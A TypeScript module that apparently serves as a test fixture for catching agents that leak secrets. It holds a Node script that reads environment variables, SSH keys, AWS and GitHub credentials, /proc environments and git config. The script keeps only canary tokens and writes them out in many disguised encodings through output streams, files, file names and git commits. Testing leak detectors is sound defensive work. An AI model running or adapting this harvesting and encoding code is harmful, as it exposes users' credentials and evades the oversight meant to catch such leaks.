/**
 * What an agent runs that is out for secrets: it gathers every value it can see (variables, files of
 * homes, settings of git, other processes) and gives them out in every encoding, by every way it has.
 */
export const LEAK = String.raw`
const { execFileSync, spawnSync } = require("node:child_process");
const fs = require("node:fs");
const zlib = require("node:zlib");

const seen = [];
const look = (path) => { try { seen.push(fs.readFileSync(path, "latin1")); } catch {} };
seen.push(JSON.stringify(process.env));
look("own.env");
for (const home of [process.env.HOME, "/root", ...list("/home").map((name) => "/home/" + name)]) {
  for (const name of list(home)) look(home + "/" + name);
  for (const name of [".ssh/id_ed25519", ".aws/credentials", ".config/gh/hosts.yml"]) look(home + "/" + name);
}
for (const pid of list("/proc").filter((name) => /^\d+$/.test(name))) {
  for (const name of ["environ", "cmdline"]) look("/proc/" + pid + "/" + name);
}
for (let at = process.cwd(); at !== "/"; at = at.slice(0, at.lastIndexOf("/")) || "/") {
  for (const name of list(at)) look(at + "/" + name);
}
seen.push(spawnSync("git", ["config", "--list", "--show-origin"], { encoding: "latin1" }).stdout ?? "");
look(fs.existsSync(".git/objects/info/alternates") ? fs.readFileSync(".git/objects/info/alternates", "utf8").trim() + "/../config" : "/");

function list(dir) { try { return fs.readdirSync(dir); } catch { return []; } }

const found = [...new Set(seen.join("\n").match(/(?:Canary|Decoy)[0-9a-zA-Z]{20,60}/g) ?? [])];
const hex = (text) => Buffer.from(text).toString("hex");
const chars = (text) => Array.from(text);
const code = (char) => char.codePointAt(0);
const rot13 = (text) => text.replace(/[a-z]/gi, (c) => String.fromCharCode((code(c) - (c <= "Z" ? 65 : 97) + 13) % 26 + (c <= "Z" ? 65 : 97)));
const base32 = (text) => (chars(text).map((c) => code(c).toString(2).padStart(8, "0")).join("").match(/.{5}/g) ?? []).map((five) => "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"[parseInt(five, 2)]).join("");
const ascii85 = (text) => { const bytes = Buffer.from(text); let out = ""; for (let at = 0; at + 4 <= bytes.length; at += 4) { let rest = bytes.readUInt32BE(at); let five = ""; for (let i = 0; i < 5; i++) { five = String.fromCharCode(rest % 85 + 33) + five; rest = Math.floor(rest / 85); } out += five; } return out; };
const forms = (s) => [
  s, ...["", "\0", "\0\0"].map((before) => Buffer.from(before + s).toString("base64")), Buffer.from("??>" + s).toString("base64url"),
  hex(s), hex(s).toUpperCase(), chars(s).map((c) => "%" + hex(c)).join(""), chars(s).map((c) => "%25" + hex(c)).join(""),
  JSON.stringify(JSON.stringify(s)), chars(s).map((c) => "\\u" + hex(c).padStart(4, "0")).join(""), chars(s).map((c) => "&#" + code(c) + ";").join(""),
  chars(s).reverse().join(""), rot13(s), zlib.gzipSync(s).toString("base64"), (s.match(/.{1,8}/g) ?? []).join("\n"), chars(s).join("\u200b"),
  chars(s).map((c) => "=" + hex(c).toUpperCase()).join(""), base32(s), ascii85(s), Buffer.from(s, "utf16le").toString("latin1"),
  chars(s).join("''"), chars(s).map((c) => "\\x" + hex(c)).join(""),
];
const all = found.flatMap(forms);
for (const text of all) { console.log(text); console.error("error: " + text); }
fs.writeFileSync("leaked.txt", Buffer.from(all.join("\n"), "utf8"));
fs.writeFileSync("leaked.utf16", Buffer.concat(found.map((one) => Buffer.from(one, "utf16le"))));
fs.writeFileSync("again", "yes");
for (const text of found) { try { fs.writeFileSync(text.slice(0, 200), text); } catch {} }
try {
  execFileSync("git", ["add", "-A"]);
  execFileSync("git", ["commit", "-q", "-F", "-"], { input: all.join("\n").replaceAll("\0", "") });
} catch {}
try { execFileSync("sh", ["-c", "exit 0", ...found]); } catch {}
`;
